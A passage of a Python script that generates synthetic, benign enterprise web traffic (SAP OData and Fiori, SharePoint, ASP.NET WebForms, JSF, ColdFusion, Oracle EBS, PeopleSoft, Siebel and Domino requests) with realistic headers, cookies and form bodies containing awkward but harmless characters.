        params.append(("$orderby", r.choice(["CreatedOn desc", "NetAmount desc,SalesOrder asc", "BusinessPartnerName"])))
        params += [("$top", str(r.choice([20, 30, 50, 100]))), ("$skip", str(r.choice([0, 0, 20, 100])))]
        if v4:
            params.append(("$count", "true"))
        else:
            params += [("$inlinecount", "allpages"), ("sap-client", "100")]
        if r.random() < 0.3:
            params.append(("$format", "json"))
        add("GET", odata_uri(svc, ent, params, v4), ui5_headers(r, v4=v4), host="fiori.corp.example")
    # key access, $metadata, search, $apply
    extra = [
        "/sap/opu/odata/sap/API_BUSINESS_PARTNER/A_BusinessPartner('%d')?$expand=to_BusinessPartnerAddress" % r.randint(1000000, 1999999),
        "/sap/opu/odata/sap/ZSD_SALES_ORDER_SRV/$metadata?sap-language=DE",
        "/sap/opu/odata/sap/MM_PUR_PO_MAINT_V2_SRV/C_PurchaseOrderTP(PurchaseOrder='4500012345',DraftUUID=guid'00000000-0000-0000-0000-000000000000',IsActiveEntity=true)",
        "/sap/opu/odata4/sap/api_salesorder/srvd_a2x/sap/salesorder/0001/SalesOrder?$search=%22" + euc("Müller & Söhne") + "%22&$top=10",
        "/sap/opu/odata4/sap/api_salesorder/srvd_a2x/sap/salesorder/0001/SalesOrder?$apply=" + euc("filter(SalesOrganization eq '1010')/groupby((SoldToParty),aggregate(TotalNetAmount with sum as Total))"),
        "/sap/opu/odata/sap/FAC_FINANCIAL_DOCUMENT_SRV_01/Headers(CompanyCode='1010',AccountingDocument='5100000123',FiscalYear='2024')/to_Items?$format=json",
        "/sap/opu/odata/sap/ZPM_NOTIFICATION_SRV/NotificationSet?search=" + euc("pump leaking (line 3)") + "&$top=25",
        "/sap/opu/odata/sap/SRA018_SO_TRACKING_SRV/SalesOrders?$filter=" + euc("substringof('O''Brien',CustomerName)") + "&$top=20",
    ]
    for u in extra:
        add("GET", u, ui5_headers(r), host="fiori.corp.example")
    # CSRF fetch + writes
    for i in range(8):
        tok = csrf_token(r)
        if i % 2 == 0:
            add("HEAD", "/sap/opu/odata/sap/HCM_LEAVE_REQ_CREATE_SRV/", ui5_headers(r, "GET"), host="fiori.corp.example")
        first, last = person(r)
        payload = r.choice([
            {"EmployeeID": "%08d" % r.randint(1, 99999999), "StartDate": "/Date(%d000)/" % (1704067200 + r.randint(0, 9000000)),
             "EndDate": "/Date(%d000)/" % (1714067200 + r.randint(0, 900000)), "LeaveTypeCode": "0100",
             "Notes": "Family trip – back on the 15th. Coverage: %s %s" % (first, last)},
            {"BusinessPartnerCategory": "2", "OrganizationBPName1": r.choice(COMPANIES), "SearchTerm1": "NEWCUST",
             "to_BusinessPartnerAddress": {"results": [{"CityName": r.choice(CITIES), "StreetName": "Hauptstraße", "HouseNumber": "12a", "Country": "DE"}]}},
            {"ShortText": "Pump P-101 leaking at flange (>2 l/h)", "Priority": "2", "NotificationType": "M1",
             "LongText": "Found during round at 06:30. Isolated valve V-12; needs gasket 4\" ANSI 150 #RF."},
        ])
        h = ui5_headers(r, "POST", tok)
        h.insert(2, ["Content-Type", "application/json"])
        method = r.choice(["POST", "POST", "MERGE", "PUT"])
        uri = "/sap/opu/odata/sap/%s/%s" % (r.choice(services)[0], r.choice(["LeaveRequestCollection", "A_BusinessPartner", "NotificationSet('%012d')" % r.randint(10000000, 99999999)]))
        if method == "MERGE" and r.random() < 0.5:
            method = "POST"
            h.append(["X-HTTP-Method", "MERGE"])
        add(method, uri, h, json.dumps(payload, ensure_ascii=False), host="fiori.corp.example")


def odata_batch(r, requests_, changeset=None):
    bnd = "batch_" + ruuid(r)
    parts = []
    for rq in requests_:
        parts.append("--" + bnd + "\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\n\r\n"
                     + rq + "\r\n")
    if changeset:
        cs = "changeset_" + ruuid(r)
        inner = ""
        for i, rq in enumerate(changeset):
            inner += ("--" + cs + "\r\nContent-Type: application/http\r\nContent-Transfer-Encoding: binary\r\nContent-ID: %d\r\n\r\n" % (i + 1)
                      + rq + "\r\n")
        inner += "--" + cs + "--\r\n"
        parts.append("--" + bnd + "\r\nContent-Type: multipart/mixed; boundary=" + cs + "\r\n\r\n" + inner)
    return "".join(parts) + "--" + bnd + "--\r\n", bnd


def b_odata_batch(c):
    r = rng("b_odata_batch")
    add = B(c, "odata", "odata-batch")
    for i in range(8):
        gets = []
        for _ in range(r.randint(1, 4)):
            gets.append("GET %s HTTP/1.1\r\nsap-cancel-on-close: true\r\nsap-contextid-accept: header\r\nAccept: application/json\r\nAccept-Language: en-US\r\nDataServiceVersion: 2.0\r\nMaxDataServiceVersion: 2.0\r\n\r\n"
                        % r.choice(["SalesOrderSet?$skip=0&$top=20&$filter=" + euc("SoldToParty eq '%07d'" % r.randint(1, 9999999)) + "&$inlinecount=allpages",
                                    "A_BusinessPartner('%d')/to_BusinessPartnerAddress" % r.randint(1000000, 1999999),
                                    "NotificationSet/$count?$filter=" + euc("Priority le 2"),
                                    "C_PurchaseOrderTP?$orderby=PurchaseOrder%20desc&$select=PurchaseOrder,Supplier,PurchaseOrderNetAmount&$top=50"]))
        cs = None
        if r.random() < 0.5:
            body = json.dumps({"ShortText": r.choice(["Replace filter – line 4", "Noise from gearbox (bearing?)", "Label printer jam @ packing"]),
                               "Priority": str(r.randint(1, 4))}, ensure_ascii=False)
            cs = ["POST NotificationSet HTTP/1.1\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s" % (len(body.encode()), body),
                  "MERGE SalesOrderSet('%010d') HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{\"PurchaseOrderByCustomer\":\"PO %s/%d\"}" % (r.randint(1, 99999), r.choice(LAST).replace("'", ""), r.randint(1, 99))]
        body, bnd = odata_batch(r, gets, cs)
        h = ui5_headers(r, "POST")
        h.insert(2, ["Content-Type", "multipart/mixed;boundary=" + bnd])
        svc = r.choice(["ZSD_SALES_ORDER_SRV", "ZPM_NOTIFICATION_SRV", "API_BUSINESS_PARTNER", "MM_PUR_PO_MAINT_V2_SRV"])
        add("POST", "/sap/opu/odata/sap/%s/$batch?sap-client=100" % svc, h, body, host="fiori.corp.example")


def b_fiori(c):
    r = rng("b_fiori")
    add = B(c, "fiori", "fiori")
    paths = [
        "/sap/bc/ui2/flp?sap-client=100&sap-language=EN#Shell-home",
        "/sap/bc/ui5_ui5/sap/arsrvc_upb_admn/~%s~/Component-preload.js" % rhex(r, 8).upper(),
        "/sap/public/bc/ui5_ui5/resources/sap-ui-core.js",
        "/sap/bc/ui2/start_up?so=%2A&action=%2A&systemAliasesFormat=object&sap-language=EN&shellType=FLP&depth=0",
        "/sap/opu/odata/UI2/PAGE_BUILDER_PERS/PageSets('%2FUI2%2FFiori2LaunchpadHome')?$expand=Pages/PageChipInstances/Chip/ChipBags/ChipProperties&sap-cache-id=" + rHEX(r, 32),
        "/sap/bc/lrep/flex/data/sap.ui.s2p.mm.purchorder.approve.Component?appVersion=1.0.0&sap-language=EN",
        "/sap/public/bc/icf/logoff?redirectURL=%2Fsap%2Fbc%2Fui2%2Fflp",
        "/sap/bc/webdynpro/sap/hress_a_pernr_selection?sap-wd-configId=HRESS_AC_PERNR_SELECTION&sap-client=100#",
        "/sap/bc/gui/sap/its/webgui?~transaction=*VA03%20VBAK-VBELN=" + "%010d" % r.randint(1, 99999) + "&sap-client=100",
        "/irj/portal?NavigationTarget=navurl://" + rhex(r, 32) + "&NavPathUpdate=false",
        "/sap/bc/ui5_ui5/ui2/ushell/shells/abap/FioriLaunchpad.html?sap-client=100&sap-theme=sap_horizon",
        "/sap/opu/odata/sap/ESH_SEARCH_SRV/Search?$filter=" + euc("Scope eq 'ALL'") + "&SearchTerms=" + euc("\"pump P-101\" -closed"),
    ]
    for p in paths:
        add("GET", p, browser(r, cookie=sap_cookie(r), accept="*/*"), host="fiori.corp.example")


def b_sharepoint(c):
    r = rng("b_sharepoint")
    add = B(c, "sharepoint", "sharepoint")
    lists = ["Documents", "Shared Documents", "Project Tasks", "Vendor Contracts (2024)", "Team's Calendar", "Site Pages"]
    for i in range(12):
        lst = r.choice(lists)
        kind = i % 4
        if kind == 0:
            u = "/sites/finance/_api/web/lists/getbytitle('%s')/items?$select=Title,Modified,Editor/Title&$expand=Editor&$filter=%s&$top=100" % (
                euc(lst.replace("'", "''")), euc("Modified ge datetime'2024-01-01T00:00:00Z' and Status eq 'Open'"))
        elif kind == 1:
            u = "/sites/hr/_api/search/query?querytext=%s&selectproperties=%s&rowlimit=50" % (
                euc("'%s AND FileExtension:docx'" % r.choice(["onboarding checklist", "travel policy", "\"code of conduct\""])),
                euc("'Title,Path,Author,LastModifiedTime'"))
        elif kind == 2:
            u = "/sites/ops/_layouts/15/Download.aspx?SourceUrl=" + q("/sites/ops/Shared Documents/SOP-%03d Forklift.pdf" % r.randint(1, 200))
        else:
            u = "/sites/finance/_vti_bin/ListData.svc/ProjectTasks?$filter=" + euc("AssignedTo/Name eq '%s %s'" % person(r)).replace("%27%27", "''")
        add("GET", u, browser(r, accept="application/json;odata=verbose", ajax=True,
                                cookie="FedAuth=" + b64(rbytes(r, 300)) + "; rtFa=" + b64(rbytes(r, 120))), host="sharepoint.corp.example")


def b_aspnet(c):
    r = rng("b_aspnet")
    add = B(c, "aspnet", "webforms")
    host = "intranet.corp.example"
    pages = ["/Orders/OrderList.aspx", "/Admin/Users.aspx", "/Timesheets/Week.aspx", "/Purchasing/Requisition.aspx",
             "/Claims/ClaimEntry.aspx", "/Inventory/StockSearch.aspx", "/Default.aspx", "/HR/LeaveRequest.aspx"]
    # postbacks: grid paging/sorting/select, button clicks, search boxes
    for i in range(24):
        page = r.choice(pages)
        kind = i % 6
        first, last = person(r)
        if kind == 0:
            body = webforms_post(r, [("ctl00$MainContent$txtSearch", r.choice([last, r.choice(COMPANIES), "PO-4500%06d" % r.randint(0, 999999), "bolt M8*40"])),
                                     ("ctl00$MainContent$ddlStatus", r.choice(["All", "Open", "Closed"])),
                                     ("ctl00$MainContent$btnSearch", "Search")])
        elif kind == 1:
            body = webforms_post(r, [], "ctl00$MainContent$gvOrders", r.choice(["Page$%d" % r.randint(2, 30), "Page$Next", "Page$Last"]))
        elif kind == 2:
            body = webforms_post(r, [], "ctl00$MainContent$gvOrders", r.choice(["Sort$OrderDate", "Sort$CustomerName", "Select$%d" % r.randint(0, 19), "Edit$%d" % r.randint(0, 19)]))
        elif kind == 3:
            body = webforms_post(r, [("ctl00$MainContent$txtFirstName", first), ("ctl00$MainContent$txtLastName", last),
                                     ("ctl00$MainContent$txtEmail", email_of(first, last)),
                                     ("ctl00$MainContent$txtComments", r.choice(["Need access to cost center 4711 & 4712 (see ticket #8812).",
                                                                                   "Replacing O'Reilly's laptop – old one is <2 yrs but damaged.",
                                                                                   "Approved by my manager; 50% charged to R&D.",
                                                                                   "Urgent -- shipment on hold until PO is released."])),
                                     ("ctl00$MainContent$chkNotify", "on"), ("ctl00$MainContent$btnSave", "Save")],
                                latin1=r.random() < 0.4)
        elif kind == 4:
            body = webforms_post(r, [("ctl00$MainContent$dpFrom$txtDate", "01/%02d/2024" % r.randint(1, 28)),
                                     ("ctl00$MainContent$dpTo$txtDate", "02/%02d/2024" % r.randint(1, 28)),
                                     ("ctl00$MainContent$txtAmount", "%d,%02d" % (r.randint(1, 9999), r.randint(0, 99))),
                                     ("ctl00$MainContent$ddlCurrency", "EUR")],
                                "ctl00$MainContent$ddlCostCenter", "", async_panel="ctl00$MainContent$upDetails|ctl00$MainContent$ddlCostCenter")
        else:
            body = webforms_post(r, [("ctl00$MainContent$rblType", r.choice(["Vacation", "Sick", "Training"])),
                                     ("ctl00$MainContent$txtReason", r.choice(["Doctor's appt.", "Conference (DevOps Days 2024)", "Moving house – 2 days"]))],
                                 "ctl00$MainContent$lnkSubmit", "")
        h = browser(r, referer="https://%s%s" % (host, page), cookie=aspnet_cookie(r))
        h.append(["Content-Type", "application/x-www-form-urlencoded" + ("; charset=utf-8" if kind == 4 else "")])
        if kind == 4:
            h += [["X-MicrosoftAjax", "Delta=true"], ["Cache-Control", "no-cache"]]
        add("POST", page + (r.choice(["", "?id=%d" % r.randint(1, 9999), "?mode=edit&ReturnUrl=%2fOrders%2fOrderList.aspx"])), h, body, host=host)
    # GETs: axd resources, ashx handlers, asmx JSON
    for i in range(7):
        d = b64url(rbytes(r, r.choice([64, 96, 128, 160]))) + str(r.choice([0, 1, 2]))
        u = r.choice(["/ScriptResource.axd?d=%s&t=%s" % (d, rhex(r, 16)), "/WebResource.axd?d=%s&t=%d" % (d, r.randint(10 ** 17, 10 ** 18))])
        add("GET", u, browser(r, referer="https://%s/Orders/OrderList.aspx" % host, cookie=aspnet_cookie(r), accept="*/*"), host=host)
    files = ["Q3_Report_final.pdf", "Invoice 2024-0187.pdf", "Vendor list (EMEA).xlsx", "Org chart – Jan 2024.pptx",
             "Müller_Angebot_v2.docx", "SOP-012 Forklift.pdf", "photo_0042.jpg", "O'Hara contract signed.pdf"]
    for i in range(8):
        f = r.choice(files)
        u = r.choice(["/Handlers/Download.ashx?file=%s" % q(f), "/Handlers/Download.ashx?id=%d&name=%s" % (r.randint(1, 99999), q(f)),
                      "/Handlers/Thumbnail.ashx?img=%s&w=120&h=90" % q("products/%d.jpg" % r.randint(1, 9999)),
                      "/Handlers/Export.ashx?report=OrderList&format=xlsx&from=2024-01-01&to=2024-01-31"])
        add("GET", u, browser(r, cookie=aspnet_cookie(r)), host=host)
    for i in range(7):
        fn, payload = r.choice([
            ("GetCompletionList", {"prefixText": r.choice(["Mü", "O'B", "Acme", "St. J", "van d"]), "count": 10, "contextKey": "customers"}),
            ("GetCities", {"country": "DE", "prefix": r.choice(["Kö", "Dü", "Wall"])}),
            ("SaveDraft", {"id": r.randint(1, 9999), "text": "Draft: pricing for <= 100 units is 4,50 EUR; > 100 units 4,10 EUR."}),
            ("GetStock", {"material": r.choice(MATERIALS), "plant": "1010"}),
        ])
        h = browser(r, accept="application/json, text/javascript, */*; q=0.01", ajax=True,
                    referer="https://%s/Orders/OrderEntry.aspx" % host, cookie=aspnet_cookie(r))
        h.append(["Content-Type", "application/json; charset=utf-8"])
        add("POST", "/Services/Lookup.asmx/" + fn, h, json.dumps(payload, ensure_ascii=False), host=host)
    # legacy escape() encoded values (%uXXXX), as old MS AJAX pages send them
    for i in range(3):
        name = r.choice(["Łukasz Wójcik", "Zoë Øvergaard – €", "Šimon Dvořák", "Ноябрь отчёт"])
        add("GET", "/Directory/Lookup.aspx?name=%s&t=%d" % (js_escape(name), r.randint(10 ** 12, 10 ** 13)),
            browser(r, cookie=aspnet_cookie(r), ajax=True, accept="*/*"), host=host)
    # login + MVC antiforgery form
    for i in range(3):
        first, last = person(r)
        body = form([("__RequestVerificationToken", b64url(rbytes(r, 80))), ("UserName", "CORP\\" + email_of(first, last).split("@")[0]),
                     ("Password", r.choice(["Winter2024!", "P@ssw0rd#12", "correct horse battery staple", "Sommer'23&Sonne"])), ("RememberMe", "false")])
        h = browser(r, referer="https://%s/Account/Login?ReturnUrl=%%2FOrders%%2F" % host, cookie=aspnet_cookie(r, False))
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
        add("POST", "/Account/Login?ReturnUrl=%2FOrders%2F", h, body, host=host)


def b_jsf(c):
    r = rng("b_jsf")
    add = B(c, "jsf", "jsf")
    host = "portal.corp.example"
    views = ["/claims/edit.xhtml", "/app/orders/list.jsf", "/faces/customer/search.xhtml", "/hr/leave.xhtml", "/procurement/req.jsf"]
    for i in range(22):
        view = r.choice(views)
        first, last = person(r)
        vs = jsf_viewstate_server(r) if r.random() < 0.6 else jsf_viewstate_client(r)
        kind = i % 4
        if kind == 0:
            pairs = [("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:searchBtn"),
                     ("javax.faces.partial.execute", "@all"), ("javax.faces.partial.render", "form:resultTable form:messages"),
                     ("form:searchBtn", "form:searchBtn"), ("form", "form"),
                     ("form:name", last), ("form:city", r.choice(CITIES)), ("form:status_input", r.choice(["OPEN", "ALL"])),
                     ("javax.faces.ViewState", vs)]
            h_extra = [["Faces-Request", "partial/ajax"]]
        elif kind == 1:
            pairs = [("javax.faces.partial.ajax", "true"), ("javax.faces.source", "form:resultTable"),
                     ("javax.faces.partial.execute", "form:resultTable"), ("javax.faces.partial.render", "form:resultTable"),
                     ("form:resultTable", "form:resultTable"), ("form:resultTable_pagination", "true"),
                     ("form:resultTable_first", str(r.choice([10, 20, 40]))), ("form:resultTable_rows", "10"),
                     ("form:resultTable_skipChildren", "true"), ("form:resultTable_encodeFeature", "true"),
                     ("form", "form"), ("javax.faces.ViewState", vs)]
            h_extra = [["Faces-Request", "partial/ajax"]]
        elif kind == 2:
            pairs = [("j_idt12", "j_idt12"), ("j_idt12:firstName", first), ("j_idt12:lastName", last),
                     ("j_idt12:email", email_of(first, last)), ("j_idt12:amount", "%d.%02d" % (r.randint(1, 5000), r.randint(0, 99))),
                     ("j_idt12:comment", r.choice(["Taxi from airport (receipt #2231)", "Hotel 3 nights @ 129 EUR", "Client dinner – 4 pax, see list"])),
                     ("j_idt12:j_idt31", "Submit"), ("javax.faces.ViewState", vs)]
            h_extra = []
        else:
            pairs = [("mainForm", "mainForm"), ("mainForm:tabView_activeIndex", str(r.randint(0, 3))),
                     ("mainForm:calFrom_input", "%02d.01.2024" % r.randint(1, 28)), ("mainForm:j_idt88_focus", ""),
                     ("mainForm:j_idt88_input", "EUR"), ("j_id1:javax.faces.ViewState:0", vs),
                     ("javax.faces.behavior.event", "dateSelect"), ("javax.faces.partial.event", "dateSelect"),
                     ("javax.faces.partial.ajax", "true"), ("javax.faces.source", "mainForm:calFrom")]
            h_extra = [["Faces-Request", "partial/ajax"]]
        h = browser(r, accept="application/xml, text/xml, */*; q=0.01" if h_extra else ACCEPT_HTML,
                    ajax=bool(h_extra), referer="https://%s%s" % (host, view), cookie=jsession(r))
        h.append(["Content-Type", "application/x-www-form-urlencoded; charset=UTF-8"])
        h += h_extra
        add("POST", view + (";jsessionid=" + rHEX(r, 32) if r.random() < 0.1 else ""), h, form(pairs), host=host)
    for u in ["/javax.faces.resource/jquery/jquery.js.xhtml?ln=primefaces&v=8.0",
              "/javax.faces.resource/theme.css.xhtml?ln=primefaces-saga",
              "/javax.faces.resource/fa/fontawesome-webfont.woff2.xhtml?ln=primefaces&v=8.0&v=4.7.0",
              "/faces/javax.faces.resource/jsf.js?ln=javax.faces&stage=Development",
              "/app/orders/list.jsf?orderId=%d&faces-redirect=true" % r.randint(1, 99999),
              "/claims/edit.xhtml?claim=%d&cid=%d" % (r.randint(1, 99999), r.randint(1, 20))]:
        add("GET", u, browser(r, accept="*/*", cookie=jsession(r)), host=host)


def b_coldfusion(c):
    r = rng("b_coldfusion")
    add = B(c, "coldfusion", "coldfusion")
    host = "legacy.corp.example"
    for i in range(22):
        cfid, cft = r.randint(10000, 999999), r.randint(10000000, 99999999)
        kind = i % 5
        cookie = "CFID=%d; CFTOKEN=%d; JSESSIONID=%s" % (cfid, cft, rHEX(r, 32)) if r.random() < 0.7 else \
            "CFID=%d; CFTOKEN=%s-%s" % (cfid, rhex(r, 16), ruuid(r).upper())
        if kind == 0:
            add("GET", "/catalog/product.cfm?id=%d&CFID=%d&CFTOKEN=%d" % (r.randint(1, 9999), cfid, cft), browser(r, cookie=cookie), host=host)
        elif kind == 1:
            add("GET", "/search/results.cfm?q=%s&page=%d&sort=%s" % (qp(r.choice(["bolt m8", "pallet \"EUR\"", "safety gloves size 9", "Müller"])), r.randint(1, 9), r.choice(["name", "price_desc"])),
                browser(r, cookie=cookie), host=host)
        elif kind == 2:
            args = json.dumps({"customerId": r.randint(1, 9999), "from": "2024-01-01", "to": "2024-01-31"})
            add("GET", "/components/orders.cfc?method=getOrders&returnformat=json&argumentCollection=%s" % q(args),
                browser(r, cookie=cookie, ajax=True, accept="application/json"), host=host)
        elif kind == 3:
            first, last = person(r)
            body = form([("fname", first), ("lname", last), ("email", email_of(first, last)), ("dept", r.choice(DEPTS)),
                         ("message", r.choice(["Please update my extension to 4711.", "Can't log in since Monday; error 'session expired'.",
                                               "Need 2x monitors (24\") for the new hire on 01/15."])),
                         ("submit", "Send")], qp_latin1 if r.random() < 0.5 else qp)
            h = browser(r, cookie=cookie, referer="https://%s/contact/index.cfm" % host)
            h.append(["Content-Type", "application/x-www-form-urlencoded"])
            add("POST", "/contact/index.cfm?action=submit", h, body, host=host)
        else:
            add("GET", "/index.cfm?fuseaction=%s&CFID=%d&CFTOKEN=%d" % (r.choice(["main.home", "reports.monthly", "users.profile&userid=%d" % r.randint(1, 999)]), cfid, cft),
                browser(r, cookie=cookie), host=host)


def b_oracle(c):
    r = rng("b_oracle")
    add = B(c, "erp", "oracle-ebs")
    host = "ebs.corp.example"
    for i in range(12):
        cookie = "%s=%s; oracle.uix=0^^GMT+1:00^p" % (r.choice(["PROD", "EBSPRD", "VIS"]), ralnum(r, 26))
        u = r.choice([
            "/OA_HTML/OA.jsp?page=/oracle/apps/fnd/framework/navigate/webui/HomePG&homePage=Y&OAPB=FWK_HOMEPAGE_BRAND&transactionid=%d&oapc=%d&oas=%s.." % (r.randint(10 ** 8, 10 ** 9), r.randint(1, 9), b64url(rbytes(r, 16))),
            "/OA_HTML/RF.jsp?function_id=%d&resp_id=%d&resp_appl_id=%d&security_group_id=0&lang_code=US&oas=%s.." % (r.randint(1000, 99999), r.randint(20000, 59999), r.choice([200, 201, 222, 800]), b64url(rbytes(r, 16))),
            "/OA_HTML/OA.jsp?OAFunc=POS_HOME&OAHP=POS_HOME_PAGE&OASF=POS_PO_SUMMARY&_ti=%d&retainAM=Y&addBreadCrumb=Y&oapc=2" % r.randint(10 ** 8, 10 ** 9),
            "/OA_HTML/AppsLocalLogin.jsp?requestUrl=APPSHOMEPAGE&cancelUrl=http%3A%2F%2Febs.corp.example%3A8000%2FOA_HTML%2FAppsLogin&langCode=US",
            "/forms/frmservlet?config=%s&record=names&form=%s" % (r.choice(["PROD", "jdk8"]), r.choice(["POXPOEPO", "APXINWKB", "GLXJEENT"])),
            "/OA_HTML/cabo/jsLibs/Common2_2_24_2.js",
            "/OA_HTML/OA.jsp?page=/oracle/apps/icx/por/reqmgmt/webui/MyReqsPG&OAPB=ICX_POR_BRAND&_ti=%d&PoSearchValue=%s" % (r.randint(10 ** 8, 10 ** 9), qp(r.choice(["laptop*", "O'Hara%", "toner 26A"]))),
        ])
        add("GET", u, browser(r, cookie=cookie), host=host)
    # OA Framework form post
    for i in range(4):
        body = form([("_FORM", "DefaultFormName"), ("_FORM_SUBMIT_BUTTON", "Go"), ("SearchValue", r.choice(["Müller", "4500012345", "paper A4*"])),
                     ("evtSrcRowIdx", ""), ("oaFormToken", str(r.randint(10 ** 9, 10 ** 10))), ("event", "goSearch"), ("source", "Go"),
                     ("_tabStateId", str(r.randint(0, 5)))])
        h = browser(r, cookie="EBSPRD=" + ralnum(r, 26))
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
        add("POST", "/OA_HTML/OA.jsp?page=/oracle/apps/po/document/webui/SearchPG&_ti=%d&oapc=4&oas=%s.." % (r.randint(10 ** 8, 10 ** 9), b64url(rbytes(r, 16))), h, body, host=host)


def b_peoplesoft(c):
    r = rng("b_peoplesoft")
    add = B(c, "erp", "peoplesoft")
    host = "hr.corp.example"
    comps = ["ROLE_EMPLOYEE.TL_MSS_EE_SRCH_PRD.GBL", "ROLE_MANAGER.HR_MSS_CT_DETAIL.GBL", "HRS_HRAM_FL.HRS_CE_HM_FL.GBL",
             "EMPLOYEE.HRMS.c.PAYROLL_ADMIN.PAY_CHECK_INQ.GBL", "NUI_FRAMEWORK.PT_LANDINGPAGE.GBL"]
    for i in range(12):
        cookie = "PS_TOKEN=%s; PS_LOGINLIST=https://hr.corp.example/hrprd; ExpirePage=https://hr.corp.example/psp/hrprd/; PS_DEVICEFEATURES=width:1920 height:1080 pixelratio:1 touch:0 geolocation:1 websockets:1 webworkers:1 datepicker:1 dtpicker:1 timepicker:1 dnd:1 sessionstorage:1 localstorage:1 history:1 canvas:1 svg:1 postmessage:1 hc:0 maf:0; hrprd-8000-PORTAL-PSJSESSIONID=%s!%d" % (
            b64(rbytes(r, 240)), ralnum(r, 32), r.randint(-2 ** 31, 2 ** 31))
        if i % 2 == 0:
            u = "/psp/hrprd/EMPLOYEE/HRMS/c/%s?Page=%s&Action=%s&EMPLID=KU%04d&EMPL_RCD=0&NAVSTACK=Clear" % (
                r.choice(comps).replace("EMPLOYEE.HRMS.c.", ""), r.choice(["TL_MSS_EE_SRCH_PRD", "HR_MSS_CT_DETAIL", "PAY_CHECK_INQ"]),
                r.choice(["U", "A", "UC"]), r.randint(1, 9999))
            add("GET", u, browser(r, cookie=cookie), host=host)
        else:
            body = form([("ICAJAX", "1"), ("ICNAVTYPEDROPDOWN", "0"), ("ICType", "Panel"), ("ICElementNum", "0"),
                         ("ICStateNum", str(r.randint(1, 80))), ("ICAction", r.choice(["#ICSave", "#ICSearch", "DERIVED_HR_SRCH_BUTTON", "#ICRow%d" % r.randint(0, 9), "PTS_CFG_CL_WRK_PTS_SEARCH_BTN"])),
                         ("ICModelCancel", "0"), ("ICXPos", "0"), ("ICYPos", str(r.randint(0, 900))), ("ResponsetoDiffFrame", "-1"),
                         ("TargetFrameName", "None"), ("FacetPath", "None"), ("ICFocus", ""), ("ICSaveWarningFilter", "0"),
                         ("ICChanged", "-1"), ("ICSkipPending", "0"), ("ICAutoSave", "0"), ("ICResubmit", "0"),
                         ("ICSID", b64(rbytes(r, 30))), ("ICActionPrompt", "false"), ("ICBcDomData", "UnknownValue"),
                         ("ICPanelName", ""), ("ICFind", ""), ("ICAddCount", ""), ("ICAPPCLSDATA", ""),
                         ("LAST_NAME", r.choice(LAST)), ("FIRST_NAME", r.choice(FIRST)), ("DEPTID", "%05d" % r.randint(10000, 99999)),
                         ("COMMENTS", r.choice(["Annual merit – 3.5% per matrix", "Backfill for J. O'Neil (maternity leave)", "Cost ctr 4711/4712 split 60/40"]))],
                        qp_latin1 if r.random() < 0.5 else qp)
            h = browser(r, cookie=cookie, accept="*/*")
            h.append(["Content-Type", "application/x-www-form-urlencoded"])
            add("POST", "/psc/hrprd/EMPLOYEE/HRMS/c/%s" % r.choice(comps).replace("EMPLOYEE.HRMS.c.", ""), h, body, host=host)


def b_siebel(c):
    r = rng("b_siebel")
    add = B(c, "erp", "siebel")
    host = "crm.corp.example"
    for i in range(10):
        ts = 1704960000000 + r.randint(0, 10 ** 7)
        cookie = "_sn=%s; _SWEUID=%s" % (ralnum(r, 60) + "!" + rhex(r, 20), ralnum(r, 10))
        if i % 2 == 0:
            u = "/callcenter_enu/start.swe?SWECmd=GotoView&SWEView=%s&SWERF=1&SWEHo=crm.corp.example&SWEBU=1&SWEApplet0=%s&SWERowId0=1-%s&SWETS=%d" % (
                q(r.choice(["All Service Request across My Organizations", "Account Detail - Contacts View", "Opportunity List View"])),
                q(r.choice(["Service Request List Applet", "Account Entry Applet"])), ralnum(r, 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), ts)
            add("GET", u, browser(r, cookie=cookie), host=host)
        else:
            body = form([("SWEMethod", r.choice(["NewQuery", "ExecuteQuery", "WriteRecord", "GotoNextSet"])),
                         ("SWEView", "Account List View"), ("SWEApplet", "Account List Applet"), ("SWERowIds", "SWERowId0=1-%s" % ralnum(r, 5, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")),
                         ("SWEReqRowId", "1"), ("s_1_1_5_0", r.choice(["Müller*", "O'Hara*", "Acme*"])), ("SWECmd", "InvokeMethod"),
                         ("SWEC", str(r.randint(1, 80))), ("SWERPC", "1"), ("SWEP", ""), ("SWETS", str(ts))])
            h = browser(r, cookie=cookie, accept="*/*")
            h.append(["Content-Type", "application/x-www-form-urlencoded"])
            add("POST", "/callcenter_enu/start.swe", h, body, host=host)


def b_domino(c):
    r = rng("b_domino")
    add = B(c, "domino", "domino")
    host = "notes.corp.example"
    for i in range(16):
        cookie = "DomAuthSessId=%s; LtpaToken=%s" % (rHEX(r, 32), b64(rbytes(r, 90)))
        unid = rHEX(r, 32)
        u = r.choice([
            "/mail/%s.nsf/($Inbox)?OpenView&Start=%d&Count=30" % (r.choice(["jdoe", "amueller", "pobrien"]), r.choice([1, 31, 61])),
            "/apps/kb.nsf/0/%s?OpenDocument" % unid,
            "/apps/kb.nsf/vwByCategory?OpenView&Start=1&Count=50&Expand=%d.%d" % (r.randint(1, 9), r.randint(1, 5)),
            "/apps/kb.nsf/%s/$File/%s?OpenElement" % (unid, q(r.choice(["manual v2.pdf", "Ölwechsel Anleitung.docx", "diagram.png"]))),
            "/apps/requests.nsf/Request?OpenForm&ParentUNID=%s&Seq=1" % unid,
            "/apps/kb.nsf/vwSearch?SearchView&Query=%s&SearchOrder=4&SearchMax=100&SearchWV=TRUE&SearchFuzzy=FALSE&Start=1&Count=25" % qp(r.choice([
                "FIELD Subject CONTAINS budget", "(travel policy) AND [Form] = \"Memo\"", "printer OR toner", "\"cost center\" AND 4711"])),
            "/names.nsf/($Users)/%s?OpenDocument" % q(" ".join(person(r))),
            "/apps/kb.nsf/$defaultview?ReadViewEntries&outputformat=JSON&PreFormat&Start=1&Count=40&ResortDescending=3",
            "/apps/team.nsf/%s!OpenDocument&ExpandSection=1,3" % unid,
        ])
        add("GET", u, browser(r, cookie=cookie), host=host)
    for i in range(3):
        first, last = person(r)
        h = browser(r, referer="https://%s/names.nsf?Login" % host)
        h.append(["Content-Type", "application/x-www-form-urlencoded"])
        add("POST", "/names.nsf?Login", h, form([("Username", "%s %s" % (first, last)), ("Password", ralnum(r, 12) + "!"),
                                                 ("RedirectTo", "/mail/%s.nsf" % email_of(first, last).split(".")[0])]), host=host)


